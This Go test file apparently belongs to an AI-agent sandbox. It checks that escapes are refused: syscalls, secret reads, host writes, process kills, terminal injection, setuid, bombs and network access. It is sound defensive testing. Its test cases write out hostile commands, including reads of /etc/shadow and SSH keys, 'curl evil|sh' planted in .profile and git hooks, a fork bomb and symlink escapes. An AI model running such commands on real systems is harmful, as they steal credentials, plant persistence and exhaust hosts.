package escapetest

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/agentexec/agentexec/sandbox"
	"golang.org/x/sys/unix"
)

var env = []string{"PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C"}

type outcome struct {
	res            sandbox.Result
	stdout, stderr string
}

// attempt runs script with sh in a sandbox built from base.
func attempt(t *testing.T, base sandbox.Spec, script string) outcome {
	t.Helper()
	var out, errb bytes.Buffer
	s := base
	s.Argv = []string{"/bin/sh", "-c", script}
	if s.Env == nil {
		s.Env = env
	}
	if s.Workspace == "" {
		s.Workspace = t.TempDir()
	}
	if s.Timeout == 0 {
		s.Timeout = 30 * time.Second
	}
	s.Mounts = append(s.Mounts, sandbox.Mount{Source: tools, Dest: tools})
	if s.Stdout == nil {
		s.Stdout = &out
	}
	s.Stderr = &errb
	res, err := sandbox.Run(context.Background(), s)
	if err != nil {
		t.Fatalf("sandbox.Run(%q): %v", script, err)
	}
	return outcome{res, out.String(), errb.String()}
}

// TestSyscallEscapes runs each kernel-level escape; every one must be
// refused (or the process killed), never "ESCAPED".
func TestSyscallEscapes(t *testing.T) {
	tests := []struct {
		name string
		try  string
		want string // the line the helper prints, or "" when the kernel kills it
	}{
		{"mount a tmpfs", "mount", "blocked: EPERM"},
		{"remount /usr writable", "remount", "blocked: EPERM"},
		{"unshare a user namespace", "unshare-user", "blocked: EPERM"},
		{"unshare a mount namespace", "unshare-mnt", "blocked: EPERM"},
		{"clone with CLONE_NEWUSER", "clone-newuser", "blocked: EPERM"},
		{"clone with CLONE_NEWNET", "clone-newnet", "blocked: EPERM"},
		{"clone3 with CLONE_NEWUSER", "clone3", "blocked: ENOSYS"},
		{"setns into init's mount namespace", "setns", "blocked: EPERM"},
		{"ptrace the init", "ptrace", "blocked: EPERM"},
		{"process_vm_readv the init", "process_vm_readv", "blocked: EPERM"},
		{"bpf map", "bpf", "blocked: EPERM"},
		{"keyctl", "keyctl", "blocked: EPERM"},
		{"add_key", "add_key", "blocked: EPERM"},
		{"perf_event_open", "perf_event_open", "blocked: EPERM"},
		{"userfaultfd", "userfaultfd", "blocked: EPERM"},
		{"io_uring", "io_uring", "blocked: EPERM"},
		{"init_module", "init_module", "blocked: EPERM"},
		{"kexec_load", "kexec", "blocked: EPERM"},
		{"x32 syscall", "x32", ""},
		{"i386 syscall", "i386", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			o := attempt(t, sandbox.Spec{}, tools+"/escape "+tt.try)
			got := strings.TrimSpace(o.stdout)
			if strings.Contains(got, "ESCAPED") || o.res.ExitCode == 0 {
				t.Fatalf("%s: got %q exit %d: the sandbox let it through", tt.try, got, o.res.ExitCode)
			}
			if tt.want == "" {
				// Foreign ABIs: the filter kills the process (SIGSYS).
				if o.res.ExitCode != 128+int(syscall.SIGSYS) {
					t.Errorf("%s: got exit %d output %q, want death by SIGSYS (%d)", tt.try, o.res.ExitCode, got, 128+int(syscall.SIGSYS))
				}
				return
			}
			if got != tt.want {
				t.Errorf("%s: got %q, want %q", tt.try, got, tt.want)
			}
		})
	}
}

// TestSecretsStayHidden plants secrets on the host and tries to read them.
func TestSecretsStayHidden(t *testing.T) {
	home := t.TempDir()
	ws := filepath.Join(home, "work")
	must(t, os.MkdirAll(filepath.Join(home, ".ssh"), 0o700))
	must(t, os.MkdirAll(ws, 0o755))
	must(t, os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte("-----BEGIN OPENSSH PRIVATE KEY-----PLANTED"), 0o600))

	// A host process with a secret in its environment.
	sleeper := exec.Command("sleep", "300")
	sleeper.Env = []string{"AGENTEXEC_TEST_SECRET=HOSTENVSECRET"}
	must(t, sleeper.Start())
	t.Cleanup(func() { sleeper.Process.Kill(); sleeper.Wait() })
	pid := strconv.Itoa(sleeper.Process.Pid)

	base := sandbox.Spec{Workspace: ws, Home: home}
	tests := []struct{ name, script, secret string }{
		{"ssh key", "cat " + home + "/.ssh/id_ed25519", "PLANTED"},
		{"ssh key by find", "find " + home + " -name 'id_*' -exec cat {} +", "PLANTED"},
		{"root home", "ls -a /root; cat /root/.bashrc", "bashrc"},
		{"shadow", "cat /etc/shadow", "root:"},
		{"gshadow", "cat /etc/gshadow", "root:"},
		{"ssh host keys", "cat /etc/ssh/ssh_host_*_key", "PRIVATE KEY"},
		{"host process environ", "cat /proc/" + pid + "/environ", "HOSTENVSECRET"},
		{"any process environ", "cat /proc/[0-9]*/environ", "HOSTENVSECRET"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			o := attempt(t, base, tt.script)
			if strings.Contains(o.stdout, tt.secret) {
				t.Errorf("%q: got the secret in the output %q", tt.script, o.stdout)
			}
		})
	}
	// A root caller whose HOME is /root, with a workspace below it.
	if fi, err := os.Stat("/root"); err == nil && fi.Mode().Perm()&0o001 == 0 {
		rws, err := os.MkdirTemp("/root", "agentexec-escape-ws-")
		must(t, err)
		t.Cleanup(func() { os.RemoveAll(rws) })
		o := attempt(t, sandbox.Spec{Home: "/root", Workspace: rws}, "echo ok > made; cat made; ls -a /root; cat /root/.bashrc /root/.gitconfig")
		if strings.Contains(o.stdout, ".bashrc") || strings.Contains(o.stdout, ".gitconfig") || !strings.HasPrefix(o.stdout, "ok\n") {
			t.Errorf("with HOME=/root: got output %q (stderr %q), want the workspace usable and the rest of /root unreadable", o.stdout, o.stderr)
		}
	}
	if _, err := os.Stat("/etc/ssh/ssh_host_ed25519_key"); err != nil {
		t.Logf("note: this host has no SSH host keys, that case proves less here")
	}
}

// TestWritesOutsideGrantsFail tries to change the host outside the grants
// and checks the host afterwards.
func TestWritesOutsideGrantsFail(t *testing.T) {
	home := t.TempDir()
	ws := filepath.Join(home, "work")
	for _, d := range []string{"work/.git/hooks", "work/vendor/lib/.git"} {
		must(t, os.MkdirAll(filepath.Join(home, d), 0o755))
	}
	must(t, os.WriteFile(filepath.Join(ws, ".git", "config"), []byte("[core]\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(ws, "vendor/lib/.git/config"), []byte("[core]\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(home, ".profile"), []byte("# profile\n"), 0o644))
	before := snapshot(t, home)

	base := sandbox.Spec{Workspace: ws, Home: home}
	tests := []struct{ name, script string }{
		{"usr", "echo x > /usr/bin/agentexec-planted"},
		{"etc", "echo x >> /etc/passwd"},
		{"home profile", "echo 'curl evil|sh' >> " + home + "/.profile"},
		{"home new file", "touch " + home + "/planted"},
		{"pre-commit hook", "printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit"},
		{"git config", "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config"},
		{"nested repo git config", "printf '[core]\\n\\tfsmonitor = evil\\n' >> vendor/lib/.git/config"},
		{"replace hooks dir", "mv .git/hooks .git/hooks.old"},
		{"symlink to host file", "ln -s /etc/passwd link && echo x >> link"},
		{"symlink out of the workspace", "ln -s " + home + " up && echo x > up/planted"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			o := attempt(t, base, tt.script)
			if o.res.ExitCode == 0 {
				t.Errorf("%q: got success, want failure", tt.script)
			}
		})
	}
	if _, err := os.Stat("/usr/bin/agentexec-planted"); err == nil {
		os.Remove("/usr/bin/agentexec-planted")
		t.Errorf("a file was planted in the host's /usr/bin")
	}
	after := snapshot(t, home)
	for p, h := range before {
		if after[p] != h {
			t.Errorf("%s changed on the host", p)
		}
	}
	// Run creates a missing .claude/, .vscode/ and .git/hooks empty so it
	// can hold them read-only; the links are the attempts' own, harmless.
	placeholders := []string{"/.claude", "/.vscode", "/.git/hooks"}
	for p, v := range after {
		if _, ok := before[p]; ok {
			continue
		}
		allowed := v[0] == 'L' && (strings.HasSuffix(p, "/link") || strings.HasSuffix(p, "/up"))
		for _, s := range placeholders {
			if strings.HasSuffix(p, s) && v[0] == 'd' {
				if ents, _ := os.ReadDir(p); len(ents) == 0 {
					allowed = true
				}
			}
		}
		if !allowed {
			t.Errorf("%s appeared on the host", p)
		}
	}
}

// TestHostProcessesInvisible starts a host sleeper and tries to see and
// kill it.
func TestHostProcessesInvisible(t *testing.T) {
	sleeper := exec.Command("sleep", "300")
	must(t, sleeper.Start())
	t.Cleanup(func() { sleeper.Process.Kill(); sleeper.Wait() })
	pid := strconv.Itoa(sleeper.Process.Pid)

	o := attempt(t, sandbox.Spec{}, "kill -9 "+pid+"; pkill -9 sleep; ls /proc | grep -c '^[0-9]'")
	if err := sleeper.Process.Signal(syscall.Signal(0)); err != nil {
		t.Fatalf("the host sleeper died: %v", err)
	}
	// Inside: the reaper, sh, ls and grep; never the host's processes.
	if n, _ := strconv.Atoi(strings.TrimSpace(o.stdout)); n > 5 {
		t.Errorf("got %d processes visible inside, want only the sandbox's own", n)
	}
}

// TestTerminalInjection gives the command a terminal the test owns as its
// stdin and tries TIOCSTI on it.
func TestTerminalInjection(t *testing.T) {
	master, slave := openPTY(t)
	for _, try := range []string{"tiocsti", "tiocsti-high"} {
		var out bytes.Buffer
		res, err := sandbox.Run(context.Background(), sandbox.Spec{
			Argv: []string{tools + "/escape", try}, Env: env, Workspace: t.TempDir(),
			Mounts: []sandbox.Mount{{Source: tools, Dest: tools}},
			Stdin:  slave, Stdout: &out, Timeout: 30 * time.Second,
		})
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.TrimSpace(out.String()); got != "blocked: EPERM" || res.ExitCode == 0 {
			t.Errorf("%s: got %q exit %d, want %q", try, got, res.ExitCode, "blocked: EPERM")
		}
	}
	// Nothing was pushed into the terminal's input queue.
	n, err := unix.IoctlGetInt(int(slave.Fd()), unix.TIOCINQ)
	if err != nil || n != 0 {
		t.Errorf("got %d bytes queued on the caller's terminal (%v), want 0", n, err)
	}
	_ = master
}

// TestSetuidGainsNothing runs a setuid-root binary the host provides.
func TestSetuidGainsNothing(t *testing.T) {
	dir := t.TempDir()
	must(t, os.Chmod(dir, 0o755))
	bin := filepath.Join(dir, "suid")
	data, err := os.ReadFile(tools + "/escape")
	must(t, err)
	must(t, os.WriteFile(bin, data, 0o755))
	must(t, os.Chown(bin, 0, 0))
	must(t, os.Chmod(bin, 0o4755|os.ModeSetuid))
	o := attempt(t, sandbox.Spec{Mounts: []sandbox.Mount{{Source: dir, Dest: dir}}}, bin+" euid; id -u")
	lines := strings.Fields(o.stdout)
	if len(lines) != 2 || lines[0] != "euid="+lines[1] || lines[1] == "0" {
		t.Errorf("got %q, want the setuid binary to run with the caller's unprivileged uid", o.stdout)
	}
}

// TestBombsContained runs a fork bomb and a memory bomb under small limits;
// both end and the host still runs processes afterwards.
func TestBombsContained(t *testing.T) {
	t.Run("fork bomb", func(t *testing.T) {
		o := attempt(t, sandbox.Spec{Limits: sandbox.Limits{Pids: 64}, Timeout: 5 * time.Second},
			`b(){ b | b & }; b; sleep 3; echo survived`)
		if o.res.ExitCode == 0 && !strings.Contains(o.stdout, "survived") {
			t.Errorf("got exit %d", o.res.ExitCode)
		}
		if !strings.Contains(o.stderr, "fork") && !strings.Contains(o.stderr, "Resource temporarily unavailable") && !o.res.TimedOut {
			t.Errorf("got stderr %q: want the pids limit to have refused forks", firstLine(o.stderr))
		}
		hostStillForks(t)
	})
	t.Run("memory bomb", func(t *testing.T) {
		o := attempt(t, sandbox.Spec{Limits: sandbox.Limits{MemoryBytes: 64 << 20}},
			`python3 -c 'a = bytearray(512 << 20); a[::4096] = b"x" * len(a[::4096]); print("allocated")'`)
		if strings.Contains(o.stdout, "allocated") || o.res.ExitCode != 137 {
			t.Errorf("got exit %d output %q, want the OOM killer's 137", o.res.ExitCode, o.stdout)
		}
		hostStillForks(t)
	})
}

// TestNetwork: the sandbox reaches neither the host's loopback nor a test
// host on another network namespace; joining a namespace it is given works.
func TestNetwork(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	defer ln.Close()
	accepted := make(chan struct{}, 1)
	go func() {
		if c, err := ln.Accept(); err == nil {
			accepted <- struct{}{}
			c.Close()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port

	n := newTestNet(t)
	connect := func(addr string) string {
		return fmt.Sprintf(`python3 -c 'import socket; s=socket.create_connection(("%s", %d), timeout=2); print("CONNECTED")'`, addr, port)
	}
	// The listener on the test host runs in its own namespace.
	n.listen(t, port)

	t.Run("host loopback", func(t *testing.T) {
		o := attempt(t, sandbox.Spec{}, connect("127.0.0.1"))
		if strings.Contains(o.stdout, "CONNECTED") {
			t.Errorf("reached the host's 127.0.0.1 listener")
		}
		select {
		case <-accepted:
			t.Errorf("the host listener accepted a connection from the sandbox")
		default:
		}
	})
	t.Run("test host", func(t *testing.T) {
		o := attempt(t, sandbox.Spec{}, connect(n.serverIP))
		if strings.Contains(o.stdout, "CONNECTED") {
			t.Errorf("reached the test host %s", n.serverIP)
		}
	})
	t.Run("joined namespace reaches the test host", func(t *testing.T) {
		o := attempt(t, sandbox.Spec{NetNS: n.clientNS}, connect(n.serverIP))
		if !strings.Contains(o.stdout, "CONNECTED") {
			t.Errorf("got %q %q, want a connection through the namespace the sandbox was given", o.stdout, o.stderr)
		}
	})
}

// TestNothingOutlivesTheCommand leaves a detached daemon behind.
func TestNothingOutlivesTheCommand(t *testing.T) {
	marker := fmt.Sprintf("agentexec-daemon-%d", time.Now().UnixNano())
	o := attempt(t, sandbox.Spec{}, "setsid nohup sh -c 'exec -a "+marker+" sleep 300' >/dev/null 2>&1 </dev/null & sleep 0.2; echo left")
	if !strings.Contains(o.stdout, "left") {
		t.Fatalf("command failed: %q", o.stderr)
	}
	if pids := findProcess(marker); len(pids) > 0 {
		for _, p := range pids {
			if n, err := strconv.Atoi(p); err == nil {
				syscall.Kill(n, syscall.SIGKILL)
			}
		}
		t.Errorf("got %v still running after the command ended, want none", pids)
	}
}

// TestTimeoutEnforced exceeds the timeout.
func TestTimeoutEnforced(t *testing.T) {
	start := time.Now()
	o := attempt(t, sandbox.Spec{Timeout: 500 * time.Millisecond}, "trap '' TERM INT; while :; do :; done")
	if !o.res.TimedOut || o.res.ExitCode != 137 {
		t.Errorf("got TimedOut %v exit %d, want true and 137", o.res.TimedOut, o.res.ExitCode)
	}
	if d := time.Since(start); d > 500*time.Millisecond+sandbox.KillGrace+10*time.Second {
		t.Errorf("took %v", d)
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func firstLine(s string) string {
	l, _, _ := strings.Cut(s, "\n")
	return l
}

func hostStillForks(t *testing.T) {
	t.Helper()
	if out, err := exec.Command("true").CombinedOutput(); err != nil {
		t.Fatalf("the host cannot start a process after the bomb: %v %s", err, out)
	}
}

func findProcess(name string) []string {
	var pids []string
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err == nil && strings.HasPrefix(string(b), name) {
			pids = append(pids, e.Name())
		}
	}
	return pids
}

// snapshot maps every path under root to its content and mode.
func snapshot(t *testing.T, root string) map[string]string {
	t.Helper()
	m := map[string]string{}
	filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return nil
		}
		v := fi.Mode().String()
		if fi.Mode().IsRegular() {
			b, _ := os.ReadFile(p)
			v += string(b)
		}
		m[p] = v
		return nil
	})
	return m
}
